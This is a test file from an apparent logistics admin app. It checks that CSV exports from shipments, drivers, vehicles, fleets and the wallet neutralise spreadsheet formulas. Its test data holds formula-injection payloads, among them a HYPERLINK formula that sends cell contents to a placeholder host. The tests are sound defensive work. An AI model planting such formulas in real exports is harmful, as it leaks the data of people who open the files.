import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { Exporter } from 'react-admin';

const downloads: { csv: string; filename: string }[] = [];
vi.mock('react-admin', async (importOriginal) => ({
  ...(await importOriginal<typeof import('react-admin')>()),
  downloadCSV: (csv: string, filename: string) => downloads.push({ csv, filename }),
}));

const { toCsv } = await import('#domain/csv');
const { exportCsv, recordsExporter } = await import('../../src/components/export/exportCsv');
const { shipmentExporter } = await import('../../src/resources/shipments/shipmentExporter');
const { driverExporter } = await import('../../src/resources/drivers/driverExporter');
const { vehicleExporter } = await import('../../src/resources/vehicles/vehicleExporter');
const { fleetExporter } = await import('../../src/resources/fleets/FleetList');
const { transactionRows } = await import('../../src/custom/wallet/walletView');

/** Issue 36 #2: what an outside tester typed into names, licences and references. */
const FORMULAS = [
  '=HYPERLINK("http://x/?"&A2,"Open")',
  '=2+5',
  '+1-1',
  '@SUM(1)',
  '-2+3',
  '\tcmd',
  '\rcmd',
  // A line break inside the cell once slipped past papaparse's own pattern.
  '=1+1\n+2',
];

/** A record whose every text field holds a formula, and whose other fields are harmless. */
const hostile = (formula: string, fields: string[], extra: Record<string, unknown> = {}) =>
  Object.fromEntries([...fields.map((field) => [field, formula]), ...Object.entries(extra)]);

const EXPORTERS: [name: string, exporter: Exporter, fields: string[], extra?: Record<string, unknown>][] = [
  [
    'shipments',
    shipmentExporter({ showShipperRate: true }) as Exporter,
    ['code', 'referenceNumber', 'companyName', 'pickupCityName', 'dropOffCityName', 'vehicleTypeName'],
    { vehicleCount: 2, weight: 10, shipperRate: 5000, status: 1, loadingTime: '2026-11-27T10:00:00Z' },
  ],
  [
    'drivers',
    driverExporter as Exporter,
    ['fullName', 'phoneNumber', 'cnic', 'licenseNumber', 'partnerName', 'statusReason'],
    { licenseExpiry: '2027-01-01', vehicleTypeIds: [1], status: 1 },
  ],
  [
    'vehicles',
    vehicleExporter as Exporter,
    [
      'registrationNumber',
      'vehicleTypeName',
      'vehicleTypeVariantName',
      'make',
      'fleetName',
      'partnerName',
      'statusReason',
    ],
    { capacityTonnes: 20, modelYear: 2020, status: 1 },
  ],
  ['fleets', fleetExporter as Exporter, ['name', 'partnerName', 'description'], { vehicleCount: 3 }],
  ['any other list', recordsExporter, ['name', 'note'], { nested: { city: '=1+1' }, tags: ['@x', 'y'] }],
];

/** Every cell a spreadsheet would run as a formula. */
const runnableCells = (csv: string) =>
  Papa.parse<string[]>(csv, { skipEmptyLines: true })
    .data.flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell));

beforeEach(() => {
  downloads.length = 0;
});

describe('every CSV goes through one exporter that neutralises formulas (OWASP)', () => {
  it.each(
    EXPORTERS.flatMap(([name, exporter, fields, extra]) =>
      FORMULAS.map((f) => [name, f, exporter, fields, extra] as const),
    ),
  )('%s: %j reaches the file as text, not a formula', async (_name, formula, exporter, fields, extra) => {
    await exporter([{ id: 1, ...hostile(formula, fields, extra) }], vi.fn(), {} as never, 'things');
    expect(downloads).toHaveLength(1);
    expect(runnableCells(downloads[0].csv)).toEqual([]);
    expect(downloads[0].csv).toContain(`'${formula.slice(0, 2)}`);
  });

  it('with SHIPPER_RATE off the shipments export has no shipper rate', async () => {
    const row = { id: 1, code: 'SH-000001', companyName: 'Indus', shipperRate: 98_765, status: 1, loadingTime: null };
    await shipmentExporter({ showShipperRate: false })([row] as never, vi.fn(), {} as never, 'shipments');
    expect(downloads[0].csv).not.toContain('Shipper Rate');
    expect(downloads[0].csv).not.toContain('98765');
    await shipmentExporter({ showShipperRate: true })([row] as never, vi.fn(), {} as never, 'shipments');
    expect(downloads[1].csv).toContain('98765');
  });

  it('keeps numbers as numbers, and the wallet and the API write through the same writer', () => {
    exportCsv([{ Amount: 2500, Balance: -100, Message: '=1+1' }], 'wallet');
    expect(downloads[0].csv.split('\r\n')[1]).toBe(`2500,-100,"'=1+1"`);
    const rows = transactionRows([
      { id: 1, date: '2026-11-27T10:00:00Z', type: 'DEBIT', amount: 5, message: '+1-1', balanceAfter: 0 } as never,
    ]);
    expect(toCsv(rows)).toContain(`'+1-1`);
  });

  it('no other file writes CSV by hand (papaparse unparse, downloadCSV or jsonexport)', () => {
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? files(path) : /\.tsx?$/.test(name) ? [path] : [];
      });
    const writers = ['src', 'server']
      .flatMap(files)
      .filter((path) => /Papa\.unparse|downloadCSV\(|jsonexport/.test(readFileSync(path, 'utf8')));
    expect(writers.sort()).toEqual([
      join('src', 'components', 'export', 'exportCsv.ts'),
      join('src', 'domain', 'csv.ts'),
    ]);
  });
});
